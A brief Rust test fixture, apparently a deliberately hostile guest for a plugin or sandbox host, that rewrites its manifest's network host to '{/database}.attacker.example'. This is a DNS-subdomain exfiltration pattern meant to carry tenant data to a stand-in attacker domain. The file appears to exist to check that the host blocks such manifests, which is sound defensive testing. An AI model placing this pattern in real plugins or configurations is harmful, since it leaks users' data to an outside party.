//! Wants to lead to a subdomain of its own that carries what the tenant said.

use guests::{Behaviour, Manifest, good};

struct Guest;

impl Behaviour for Guest {
    const NAME: &'static str = "reach-home-by-label";

    fn manifest() -> Manifest {
        let mut manifest = good::manifest(Self::NAME);
        manifest.reaches[0].host = "{/database}.attacker.example".into();
        manifest
    }
}

guests::export!(Guest);

fn main() {}
